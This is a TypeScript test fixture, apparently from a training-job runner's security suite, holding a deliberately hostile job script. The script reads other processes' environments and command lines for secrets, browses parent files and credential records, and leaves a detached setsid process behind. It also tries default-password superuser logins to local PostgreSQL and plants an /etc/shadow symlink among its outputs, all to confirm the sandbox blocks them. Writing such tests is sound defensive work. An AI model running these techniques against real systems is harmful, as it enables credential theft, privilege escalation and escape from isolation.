// A hostile training project, as an attacker would write one in another repository: it tries
// every way it knows to the runner's credentials and the database, leaves a process behind with
// setsid, records what each attempt gave in attacks.json, and then writes valid outputs so that
// the run is recorded as succeeded (the attempts must fail on their own, not by failing the run).
import { createRequire } from 'node:module';
import { pathToFileURL } from 'node:url';
import { MODEL_JSON } from '../runner-project.ts';

const PG_URL = pathToFileURL(createRequire(import.meta.url).resolve('pg')).href;

/**
 * The attacks attacks.json reports on, each `{ attack, target, succeeded, detail }`. For `environ`
 * and `cmdline`, `succeeded` means readable and `detail` is the text: a leak is a secret in it.
 */
export const ATTACKS = [
  'environ',
  'cmdline',
  'parent-files',
  'runner-home',
  'postgres-json',
  'setsid',
  'database',
] as const;

/**
 * The script. Arguments: `--runner-home DIR`, `--record FILE` (a postgres.json), `--pid-file FILE`
 * (where the setsid process writes its pid), `--ports P,Q` (the test's database servers). What it
 * could read of environ and cmdline is reported whole: the test looks for the runner's secrets in it.
 */
export const HOSTILE_SCRIPT = `
import { spawn } from 'node:child_process';
import { readdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import pg from ${JSON.stringify(PG_URL)};

const arg = (name) => process.argv[process.argv.indexOf(name) + 1];
const out = process.env.FRESHET_OUTPUT_DIR;
const attempts = [];
const attempt = (attack, target, run) => {
  try {
    const detail = run();
    attempts.push({ attack, target, succeeded: detail !== false, detail: String(detail) });
  } catch (error) {
    attempts.push({ attack, target, succeeded: false, detail: error.code ?? error.message });
  }
};

// Every ancestor: the shell that started us, the runner, what started the runner.
const ancestors = [];
for (let pid = process.ppid; pid > 1 && ancestors.length < 10; ) {
  const status = readFileSync('/proc/' + pid + '/status', 'utf8');
  // Its own shell is its own: the runner and what started it are what it is after.
  if (Number(/Uid:\\s+(\\d+)/.exec(status)[1]) !== process.getuid()) ancestors.push(pid);
  pid = Number(/PPid:\\s+(\\d+)/.exec(status)[1]);
}
for (const pid of ancestors) {
  // A readable environ is no leak by itself (our own shell's is ours): the test looks for secrets in it.
  attempt('environ', pid, () => readFileSync('/proc/' + pid + '/environ', 'utf8').replaceAll('\\0', ' '));
  attempt('parent-files', pid + '/cwd', () => readdirSync('/proc/' + pid + '/cwd').join(','));
  attempt('parent-files', pid + '/fd', () => readdirSync('/proc/' + pid + '/fd').map((fd) => readlinkSync('/proc/' + pid + '/fd/' + fd)).join(','));
  attempt('parent-files', pid + '/root', () => readdirSync('/proc/' + pid + '/root/root').join(','));
}
attempt('parent-files', 'ancestors', () => ancestors.length > 0 ? false : 'none');
// Every process's command line is readable by everyone: none may hold a credential.
for (const pid of readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
  attempt('cmdline', pid, () => readFileSync('/proc/' + pid + '/cmdline', 'utf8').replaceAll('\\0', ' '));
}
attempt('runner-home', arg('--runner-home'), () => readdirSync(arg('--runner-home')).join(','));
attempt('postgres-json', arg('--record'), () => readFileSync(arg('--record'), 'utf8'));
attempt('environ', 'self', () => JSON.stringify(process.env));

// A process that leaves the run's process group and would outlive the run.
const left = spawn('setsid', ['sleep', '600'], { detached: true, stdio: 'ignore' });
left.unref();
writeFileSync(arg('--pid-file'), String(left.pid));
attempt('setsid', 'started', () => false);

// Every TCP port listening on this machine, and every PostgreSQL socket in /tmp, as the superuser.
const ports = new Set();
for (const file of ['/proc/net/tcp', '/proc/net/tcp6']) {
  let text = '';
  try { text = readFileSync(file, 'utf8'); } catch {}
  for (const line of text.split('\\n').slice(1)) {
    const fields = line.trim().split(/\\s+/);
    if (fields[3] === '0A') ports.add(parseInt(fields[1].split(':').pop(), 16));
  }
}
// Only the servers of this test: others on a shared machine are not ours to judge.
const ours = arg('--ports').split(',').map(Number);
const targets = [...ports].filter((port) => ours.includes(port)).map((port) => ({ host: '127.0.0.1', port }));
for (const dir of ['/tmp', '/var/run/postgresql']) {
  try {
    for (const name of readdirSync(dir)) {
      const m = /^\\.s\\.PGSQL\\.(\\d+)$/.exec(name);
      if (m && ours.includes(Number(m[1]))) targets.push({ host: dir, port: Number(m[1]) });
    }
  } catch {}
}
for (const target of targets) {
  for (const password of ['freshet', 'postgres', '']) {
    const client = new pg.Client({ ...target, user: 'postgres', password, database: 'postgres', connectionTimeoutMillis: 2000 });
    try {
      await client.connect();
      await client.query('CREATE TABLE IF NOT EXISTS public.hostile_was_here (x int)');
      attempts.push({ attack: 'database', target: target.host + ':' + target.port, succeeded: true, detail: 'connected as postgres' });
    } catch (error) {
      attempts.push({ attack: 'database', target: target.host + ':' + target.port, succeeded: false, detail: error.code ?? error.message });
    } finally {
      await client.end().catch(() => {});
    }
  }
}
attempt('database', 'DATABASE_URL', () => process.env.DATABASE_URL ?? false);

writeFileSync(join(out, 'attacks.json'), JSON.stringify(attempts));
writeFileSync(join(out, 'params.json'), '{}');
writeFileSync(join(out, 'metrics.json'), '{"attempts": ' + attempts.length + '}');
writeFileSync(join(out, 'model.json'), ${JSON.stringify(MODEL_JSON)});
// A link among the outputs, to a file only root may read: the runner copies outputs as root.
symlinkSync('/etc/shadow', join(out, 'shadow.txt'));
`;
